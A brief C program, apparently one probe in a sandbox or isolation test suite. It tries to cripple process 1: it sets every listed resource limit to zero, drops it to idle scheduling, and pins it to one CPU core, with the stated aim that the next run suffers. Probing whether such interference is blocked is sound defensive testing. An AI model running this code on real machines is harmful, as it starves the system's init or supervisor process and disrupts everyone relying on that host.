/* Lowers the resource limits of process 1: with the same uid it may, and the next run suffers. */
#include "attack.h"
static long lower(int which) {
    struct rlimit none = {0, 0};
    return prlimit(1, which, &none, 0);
}
static long pin(void) {
    cpu_set_t one;
    CPU_ZERO(&one);
    CPU_SET(0, &one);
    return sched_setaffinity(1, sizeof one, &one);
}
int main(void) {
    ATTEMPT("CPU time of process 1", lower(RLIMIT_CPU));
    ATTEMPT("descriptors of process 1", lower(RLIMIT_NOFILE));
    ATTEMPT("address space of process 1", lower(RLIMIT_AS));
    ATTEMPT("processes of process 1", lower(RLIMIT_NPROC));
    ATTEMPT("scheduling of process 1", sched_setscheduler(1, SCHED_IDLE, &(struct sched_param){0}));
    ATTEMPT("core of process 1", pin());
    return 0;
}
